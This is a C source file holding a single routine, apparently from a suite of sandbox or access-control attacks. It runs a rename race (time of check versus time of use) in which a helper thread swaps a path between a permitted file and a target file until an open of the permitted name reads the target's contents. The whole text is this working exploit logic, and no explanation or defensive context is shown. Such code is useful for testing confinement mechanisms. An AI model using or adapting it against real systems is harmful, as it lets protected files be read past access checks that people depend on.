#include "attack.h"
#include "opens.h"

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* What is renamed is another file between the moment it is looked at and the moment it is used; back under the name that may be read, it tells which. */
    static char path[4096];
    char *moved = NULL;
    int leaked = first_of(open(extra, O_RDONLY)) == 's';
    pthread_t other;
    (void)workspace;
    strcpy(path, extra);
    struct swap swap = {.place = path, .one = extra, .other = target};
    if (asprintf(&moved, "%s.moved", extra) < 0)
        return 0;
    if (rename(extra, moved) == 0) /* undisturbed: what is allowed can be done */
        rename(moved, extra);
    if (pthread_create(&other, NULL, keep_rewriting, &swap) != 0)
        return 0;
    while (!leaked && goes_on())
        if (rename(path, moved) == 0 && rename(moved, extra) == 0)
            leaked = first_of(open(extra, O_RDONLY)) == 's';
    swap.over = 1;
    pthread_join(other, NULL);
    return leaked;
}
